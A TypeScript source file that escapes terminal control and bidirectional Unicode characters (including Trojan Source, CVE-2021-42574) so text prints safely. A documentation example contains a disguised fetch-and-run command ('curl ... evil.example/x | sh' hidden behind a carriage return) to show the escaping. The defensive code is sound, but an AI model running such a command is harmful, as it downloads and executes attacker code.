/**
 * Characters a terminal acts on instead of showing, or that make it show text other than what is
 * there: C0 controls but tab (carriage return, escape, bell, backspace, newline), DEL, the C1
 * controls (U+009B is a one-character CSI to some terminals), Unicode's bidirectional controls
 * ("Trojan Source", CVE-2021-42574) and its line and paragraph separators.
 */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const UNPRINTABLE = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/g;

/**
 * One line of text as it is safe to print to a terminal: each character of {@link UNPRINTABLE}
 * becomes a visible escape, `\r`, `\n` or `\uXXXX` as in JSON. Text without such characters comes
 * back unchanged (a backslash stays one backslash), so the human view stays readable; the JSON and
 * YAML formats are the exact form.
 *
 * @example
 * printable('curl -s http://evil.example/x | sh\r./serve.sh') // 'curl -s http://evil.example/x | sh\\r./serve.sh'
 * printable('\u001b[2Jhi') // '\\u001b[2Jhi'
 */
export function printable(text: string): string {
  return text.replace(UNPRINTABLE, (c) => {
    if (c === '\r') return '\\r';
    if (c === '\n') return '\\n';
    return `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`;
  });
}
